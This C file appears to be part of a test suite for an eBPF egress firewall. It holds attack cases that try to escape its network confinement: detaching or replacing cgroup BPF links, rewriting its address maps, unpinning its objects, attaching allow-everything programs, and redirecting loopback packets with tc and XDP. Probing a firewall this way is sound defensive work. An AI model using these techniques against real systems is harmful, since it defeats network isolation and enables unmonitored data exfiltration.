// SPDX-License-Identifier: BSD-2-Clause
/* BPF against the wall: by those who may load programs. Only links and maps of our own bottle are
 * touched: other walls may stand on the machine. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef BPF_F_PREORDER
#define BPF_F_PREORDER (1U << 6)
#endif
#define BPF_TCX_INGRESS_ 46 /* enum bpf_attach_type, Linux 6.6 */
#define BPF_TCX_EGRESS_ 47
#define INSN(c, d, s, o, i) ((struct bpf_insn){.code = c, .dst_reg = d, .src_reg = s, .off = o, .imm = i})
#define CALL(function) INSN(BPF_JMP | BPF_CALL, 0, 0, 0, function)
#define MOVE(reg, value) INSN(BPF_ALU64 | BPF_MOV | BPF_K, reg, 0, 0, value)
#define STORE(offset, value) INSN(BPF_ST | BPF_MEM | BPF_W, 6, 0, offset, value)
#define KEEP_CONTEXT INSN(BPF_ALU64 | BPF_MOV | BPF_X, 6, 1, 0, 0)
#define RETURN INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)
#define SET_RETVAL 187

static int bpf(int command, union bpf_attr *attr)
{
	return (int)syscall(SYS_bpf, command, attr, sizeof(*attr));
}

static int load(int type, int attach_type, const struct bpf_insn *program, size_t count)
{
	union bpf_attr attr = {0};

	attr.prog_type = (unsigned)type;
	attr.expected_attach_type = (unsigned)attach_type;
	attr.insns = (uintptr_t)program;
	attr.insn_cnt = (unsigned)count;
	attr.license = (uintptr_t) "GPL";
	return need(bpf(BPF_PROG_LOAD, &attr), "BPF_PROG_LOAD");
}

static void send_now(void)
{
	SEND_TO(open_socket(AF_INET, SOCK_DGRAM, 0), target4);
	STREAM_TO(open_socket(AF_INET, SOCK_STREAM, 0), target4);
}

static int cgroup_fd(const char *path) { return need(open(path, O_RDONLY | O_DIRECTORY), path); }

/* ---- the walls links, found by id ----------------------------------------------------------- */

static int info_of(int fd, void *info, unsigned size)
{
	union bpf_attr attr = {0};

	attr.info.bpf_fd = (unsigned)fd;
	attr.info.info_len = size;
	attr.info.info = (uintptr_t)info;
	return bpf(BPF_OBJ_GET_INFO_BY_FD, &attr);
}

static int by_id(int command, unsigned id)
{
	union bpf_attr attr = {0};

	attr.link_id = id;
	return bpf(command, &attr);
}

/* Calls back for each link on our cgroup. */
static void each_link(void (*use)(int link, const struct bpf_link_info *info))
{
	unsigned long long ours = strtoull(setting("CGROUP_ID"), NULL, 10);
	union bpf_attr attr = {0};

	while (bpf(BPF_LINK_GET_NEXT_ID, &attr) == 0) {
		struct bpf_link_info info = {0};
		int link = by_id(BPF_LINK_GET_FD_BY_ID, attr.next_id);

		attr.start_id = attr.next_id;
		if (link < 0)
			continue;
		if (info_of(link, &info, sizeof(info)) == 0 && info.type == BPF_LINK_TYPE_CGROUP &&
		    info.cgroup.cgroup_id == ours)
			use(link, &info);
		close(link);
	}
	if (errno != ENOENT)
		perror("BPF_LINK_GET_NEXT_ID");
}

static void detach(int link, const struct bpf_link_info *info)
{
	union bpf_attr attr = {0};

	(void)info;
	attr.link_detach.link_fd = (unsigned)link;
	if (bpf(BPF_LINK_DETACH, &attr) < 0)
		perror("BPF_LINK_DETACH");
}

static int permissive(int attach_type)
{
	static const struct bpf_insn program[] = {MOVE(0, 1), RETURN};
	int type = BPF_PROG_TYPE_CGROUP_SOCK_ADDR;

	if (attach_type == BPF_CGROUP_INET_EGRESS || attach_type == BPF_CGROUP_INET_INGRESS)
		type = BPF_PROG_TYPE_CGROUP_SKB;
	else if (attach_type == BPF_CGROUP_INET_SOCK_CREATE ||
		 attach_type == BPF_CGROUP_INET_SOCK_RELEASE)
		type = BPF_PROG_TYPE_CGROUP_SOCK;
	return load(type, attach_type, program, 2);
}

static void update(int link, const struct bpf_link_info *info)
{
	union bpf_attr attr = {0};

	attr.link_update.link_fd = (unsigned)link;
	attr.link_update.new_prog_fd = (unsigned)permissive((int)info->cgroup.attach_type);
	if (bpf(BPF_LINK_UPDATE, &attr) < 0)
		perror("BPF_LINK_UPDATE");
}

struct cidr_key {
	uint32_t length;
	uint8_t address[16];
};
struct cidr_target {
	uint32_t host;
	uint16_t flags, count, ports[16];
};

static void open_map(int map)
{
	struct cidr_key key = {0};
	struct cidr_target value = {.flags = 1, .count = 1, .ports = {ntohs(target4.sin_port)}};
	union bpf_attr attr = {0};

	attr.map_fd = (unsigned)map;
	attr.key = (uintptr_t)&key;
	attr.value = (uintptr_t)&value;
	if (bpf(BPF_MAP_UPDATE_ELEM, &attr) < 0)
		perror("BPF_MAP_UPDATE_ELEM");
}

static void open_maps_of(int link, const struct bpf_link_info *info)
{
	unsigned ids[64];
	struct bpf_prog_info program = {.nr_map_ids = 64, .map_ids = (uintptr_t)ids};
	int fd = by_id(BPF_PROG_GET_FD_BY_ID, info->prog_id);

	(void)link;
	if (fd < 0 || info_of(fd, &program, sizeof(program)) < 0)
		return;
	for (unsigned i = 0; i < program.nr_map_ids && i < 64; i++) {
		struct bpf_map_info map = {0};
		int map_fd = by_id(BPF_MAP_GET_FD_BY_ID, ids[i]);

		if (map_fd >= 0 && info_of(map_fd, &map, sizeof(map)) == 0 &&
		    strcmp(map.name, "cidrs") == 0)
			open_map(map_fd);
		close(map_fd);
	}
	close(fd);
}

ATTACK(bpf_link_detach, "breaks", "finds the wall's links by id and detaches them")
{
	each_link(detach);
	send_now();
}
ATTACK(bpf_link_update, "breaks", "puts a program that allows everything into the wall's links")
{
	each_link(update);
	send_now();
}
ATTACK(bpf_map_write, "breaks", "finds the wall's map of address blocks by id and allows them all")
{
	each_link(open_maps_of);
	send_now();
}

/* ---- the tc wall, by the ids of its programs -------------------------------------------------- */

/* A program of ours that has the map's entry at `key` put to what we like, and runs once. */
static void write_by_program(int map, const uint32_t *entry, unsigned key_size, unsigned value_size)
{
	unsigned size = key_size + value_size;
	struct bpf_insn program[64];
	unsigned char packet[64] = {0};
	union bpf_attr attr = {0};
	unsigned n = 0;
	int fd;

	for (unsigned i = 0; i < size / 4; i++)
		program[n++] = INSN(BPF_ST | BPF_MEM | BPF_W, 10, 0, (short)(4 * i - size),
				    (int)entry[i]);
	program[n++] = INSN(BPF_LD | BPF_DW | BPF_IMM, 1, BPF_PSEUDO_MAP_FD, 0, map);
	program[n++] = INSN(0, 0, 0, 0, 0);
	program[n++] = INSN(BPF_ALU64 | BPF_MOV | BPF_X, 2, 10, 0, 0);
	program[n++] = INSN(BPF_ALU64 | BPF_ADD | BPF_K, 2, 0, 0, -(int)size);
	program[n++] = INSN(BPF_ALU64 | BPF_MOV | BPF_X, 3, 10, 0, 0);
	program[n++] = INSN(BPF_ALU64 | BPF_ADD | BPF_K, 3, 0, 0, -(int)value_size);
	program[n++] = MOVE(4, 0);
	program[n++] = CALL(BPF_FUNC_map_update_elem);
	program[n++] = RETURN;
	attr.prog_type = BPF_PROG_TYPE_SCHED_CLS;
	attr.insns = (uintptr_t)program;
	attr.insn_cnt = n;
	attr.license = (uintptr_t) "GPL";
	fd = bpf(BPF_PROG_LOAD, &attr);
	if (fd < 0) {
		perror("BPF_PROG_LOAD");
		return;
	}
	memset(&attr, 0, sizeof(attr));
	attr.test.prog_fd = (unsigned)fd;
	attr.test.data_in = (uintptr_t)packet;
	attr.test.data_size_in = sizeof(packet);
	if (bpf(BPF_PROG_TEST_RUN, &attr) < 0 || attr.test.retval)
		fprintf(stderr, "the map was not written: %d\n", (int)attr.test.retval);
	close(fd);
}

struct lpm_entry {
	struct cidr_key key;
	struct cidr_target target;
};
struct peer_entry {
	uint8_t address[16];
	uint16_t port, published;
	uint32_t value; /* one byte of it */
};

/* Empties and fills it again by system calls, then by a program. */
static void write_wire_map(int map, const struct bpf_map_info *info)
{
	struct lpm_entry all = {.target = {.flags = 1, .count = 1,
					   .ports = {ntohs(target4.sin_port)}}};
	struct peer_entry peer = {.address = {[10] = 0xff, [11] = 0xff},
				  .port = ntohs(target4.sin_port), .published = 8099, .value = 1};
	unsigned char key[64], zeros[64] = {0};
	union bpf_attr attr = {0};

	memcpy(peer.address + 12, &target4.sin_addr, 4);
	attr.map_fd = (unsigned)map;
	attr.value = (uintptr_t)key; /* next_key */
	if (bpf(BPF_MAP_GET_NEXT_KEY, &attr) == 0) {
		attr.key = (uintptr_t)key;
		bpf(BPF_MAP_DELETE_ELEM, &attr);
	}
	if (info->type == BPF_MAP_TYPE_LPM_TRIE) {
		open_map(map);
		write_by_program(map, (const uint32_t *)&all, sizeof(all.key), sizeof(all.target));
	} else if (strcmp(info->name, "peers") == 0) {
		write_by_program(map, (const uint32_t *)&peer, 20, 4);
	} else if (info->type == BPF_MAP_TYPE_ARRAY && info->value_size <= sizeof(zeros)) {
		attr.key = (uintptr_t)zeros;
		bpf(BPF_MAP_UPDATE_ELEM, &attr);
	}
}

static void write_maps_of_program(unsigned id, const char *only)
{
	unsigned ids[64];
	struct bpf_prog_info program = {.nr_map_ids = 64, .map_ids = (uintptr_t)ids};
	int fd = by_id(BPF_PROG_GET_FD_BY_ID, id);

	if (fd < 0 || info_of(fd, &program, sizeof(program)) < 0) {
		perror("BPF_PROG_GET_FD_BY_ID");
		return;
	}
	for (unsigned i = 0; i < program.nr_map_ids && i < 64; i++) {
		struct bpf_map_info map = {0};
		int map_fd = by_id(BPF_MAP_GET_FD_BY_ID, ids[i]);

		if (map_fd >= 0 && info_of(map_fd, &map, sizeof(map)) == 0 &&
		    strcmp(map.name, "counters") != 0 && (!only || strcmp(map.name, only) == 0))
			write_wire_map(map_fd, &map);
		close(map_fd);
	}
	close(fd);
}

void write_wire_maps(const char *only)
{
	char *at = getenv("WIRE_PROGRAMS"), *next;

	each_link(detach);
	for (; at && *at; at = next) {
		unsigned id = (unsigned)strtoul(at, &next, 10);

		if (next == at)
			break;
		write_maps_of_program(id, only);
	}
}

ATTACK(bpf_wire_maps, "breaks", "writes what the tc wall decides by, by system call and by program")
{
	write_wire_maps("cidrs");
	write_wire_maps("wire.rodata");
	send_now();
}

ATTACK(bpf_prog_detach, "breaks", "BPF_PROG_DETACH of every kind on the bottle's cgroup")
{
	int fd = cgroup_fd(setting("CGROUP"));

	for (unsigned type = 0; type < 60; type++) {
		union bpf_attr attr = {0};

		attr.target_fd = (unsigned)fd;
		attr.attach_type = type;
		bpf(BPF_PROG_DETACH, &attr);
	}
	send_now();
}
ATTACK(bpf_unpin, "breaks", "deletes the wall's pins")
{
	char path[300], file[600];
	struct dirent *entry;
	DIR *directory;

	snprintf(path, sizeof(path), "/sys/fs/bpf/egress-bpf/%s", setting("BOTTLE"));
	directory = opendir(path);
	if (!directory)
		perror(path);
	while (directory && (entry = readdir(directory))) {
		snprintf(file, sizeof(file), "%s/%s", path, entry->d_name);
		unlink(file);
	}
	if (directory)
		closedir(directory);
	usleep(100000);
	send_now();
}

/* ---- programs of one's own ------------------------------------------------------------------ */

static const int kinds[] = {BPF_CGROUP_INET4_CONNECT,  BPF_CGROUP_INET6_CONNECT,
			    BPF_CGROUP_UDP4_SENDMSG,   BPF_CGROUP_UDP6_SENDMSG,
			    BPF_CGROUP_INET_EGRESS,    BPF_CGROUP_INET_INGRESS,
			    BPF_CGROUP_INET_SOCK_CREATE};

static void attach(int cgroup, int program, int kind, unsigned flags)
{
	union bpf_attr attr = {0};

	attr.target_fd = (unsigned)cgroup;
	attr.attach_bpf_fd = (unsigned)program;
	attr.attach_type = (unsigned)kind;
	attr.attach_flags = flags;
	if (bpf(BPF_PROG_ATTACH, &attr) < 0)
		perror("BPF_PROG_ATTACH");
}

static void permissive_child(unsigned flags)
{
	char path[300], procs[340];
	int fd, cgroup, control;

	snprintf(path, sizeof(path), "%s/child-%d", setting("CGROUP"), getpid());
	need(mkdir(path, 0755), path);
	cgroup = cgroup_fd(path);
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		attach(cgroup, permissive(kinds[i]), kinds[i], flags);
	snprintf(procs, sizeof(procs), "%s/cgroup.procs", path);
	fd = need(open(procs, O_WRONLY), procs);
	if (write(fd, "0", 1) < 0)
		perror(procs);
	send_now();
	snprintf(procs, sizeof(procs), "%s/cgroup.procs", setting("CGROUP"));
	control = open(procs, O_WRONLY);
	if (control < 0 || write(control, "0", 1) < 0)
		perror(procs);
	rmdir(path);
}

ATTACK(bpf_child_multi, "", "a child cgroup with programs that allow, ALLOW_MULTI")
{
	permissive_child(BPF_F_ALLOW_MULTI);
}
ATTACK(bpf_child_preorder, "", "a child cgroup with programs that allow, PREORDER: they run first")
{
	permissive_child(BPF_F_ALLOW_MULTI | BPF_F_PREORDER);
}
ATTACK(bpf_child_override, "", "a child cgroup with programs that allow, ALLOW_OVERRIDE")
{
	permissive_child(BPF_F_ALLOW_OVERRIDE);
}
ATTACK(bpf_child_plain, "", "a child cgroup with programs that allow, no flag")
{
	permissive_child(0);
}

static void after_ours(int kind, const struct bpf_insn *program, size_t count)
{
	struct sockaddr_in address = home4;
	int cgroup = cgroup_fd(setting("CGROUP"));
	int ours = load(BPF_PROG_TYPE_CGROUP_SOCK_ADDR, kind, program, count);
	union bpf_attr attr = {0};

	attach(cgroup, ours, kind, BPF_F_ALLOW_MULTI);
	send_now();
	SEND_TO(open_socket(AF_INET, SOCK_DGRAM, 0), address);
	STREAM_TO(open_socket(AF_INET, SOCK_STREAM, 0), address);
	attr.target_fd = (unsigned)cgroup;
	attr.attach_bpf_fd = (unsigned)ours;
	attr.attach_type = (unsigned)kind;
	if (bpf(BPF_PROG_DETACH, &attr) < 0)
		perror("BPF_PROG_DETACH");
}

ATTACK(bpf_rewrite_after, "serial", "programs behind ours that turn loopback into the outside")
{
	const struct bpf_insn program[] = {
		KEEP_CONTEXT,
		STORE(offsetof(struct bpf_sock_addr, user_ip4), (int)target4.sin_addr.s_addr),
		STORE(offsetof(struct bpf_sock_addr, user_port), target4.sin_port),
		MOVE(0, 1), RETURN};

	after_ours(BPF_CGROUP_INET4_CONNECT, program, 5);
	after_ours(BPF_CGROUP_UDP4_SENDMSG, program, 5);
}
ATTACK(bpf_retval_after, "serial", "programs behind ours that turn our refusal into success")
{
	const struct bpf_insn program[] = {MOVE(1, 0), CALL(SET_RETVAL), MOVE(0, 1), RETURN};

	after_ours(BPF_CGROUP_INET4_CONNECT, program, 4);
	after_ours(BPF_CGROUP_UDP4_SENDMSG, program, 4);
}

/* ---- past the cgroup: on the interfaces ----------------------------------------------------- */

ATTACK(bpf_tcx_redirect, "serial", "a tc program on loopback moves our packets to the wire")
{
	char name[16];
	const struct bpf_insn program[] = {MOVE(1, (int)wire_index(name)), MOVE(2, 0),
					   CALL(BPF_FUNC_redirect), RETURN};
	struct sockaddr_in address = home4;
	union bpf_attr attr = {0};

	attr.link_create.prog_fd =
		(unsigned)load(BPF_PROG_TYPE_SCHED_CLS, BPF_TCX_EGRESS_, program, 4);
	attr.link_create.target_fd = 1;
	attr.link_create.attach_type = BPF_TCX_EGRESS_;
	need(bpf(BPF_LINK_CREATE, &attr), "BPF_LINK_CREATE");
	address.sin_port = target4.sin_port;
	SEND_TO(open_socket(AF_INET, SOCK_DGRAM, 0), address);
}
ATTACK(bpf_redirect_peer, "serial", "a tc program makes what loopback receives come out of the wire's far end")
{
	char name[16];
	const struct bpf_insn program[] = {MOVE(1, (int)wire_index(name)), MOVE(2, 0),
					   CALL(BPF_FUNC_redirect_peer), RETURN};
	struct sockaddr_in address = home4;
	union bpf_attr attr = {0};

	attr.link_create.prog_fd =
		(unsigned)load(BPF_PROG_TYPE_SCHED_CLS, BPF_TCX_INGRESS_, program, 4);
	attr.link_create.target_fd = 1;
	attr.link_create.attach_type = BPF_TCX_INGRESS_;
	need(bpf(BPF_LINK_CREATE, &attr), "BPF_LINK_CREATE");
	address.sin_port = target4.sin_port;
	SEND_TO(open_socket(AF_INET, SOCK_DGRAM, 0), address);
}
ATTACK(bpf_xdp_live_frames, "", "BPF_PROG_TEST_RUN with live frames, redirected to the wire")
{
	char name[16];
	const struct bpf_insn program[] = {MOVE(1, (int)wire_index(name)), MOVE(2, 0),
					   CALL(BPF_FUNC_redirect), RETURN};
	struct xdp_md context = {.data_end = 256};
	uint8_t frame[256] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 2, 0, 0, 0, 0, 0, 8, 0};
	union bpf_attr attr = {0};

	forge_udp4(frame + 14);
	attr.test.prog_fd = (unsigned)load(BPF_PROG_TYPE_XDP, 0, program, 4);
	attr.test.data_in = (uintptr_t)frame;
	attr.test.data_size_in = sizeof(frame);
	attr.test.ctx_in = (uintptr_t)&context;
	attr.test.ctx_size_in = sizeof(context);
	attr.test.repeat = 4;
	attr.test.flags = 1u << 1; /* BPF_F_TEST_XDP_LIVE_FRAMES */
	need(bpf(BPF_PROG_TEST_RUN, &attr), "BPF_PROG_TEST_RUN");
	usleep(50000);
}
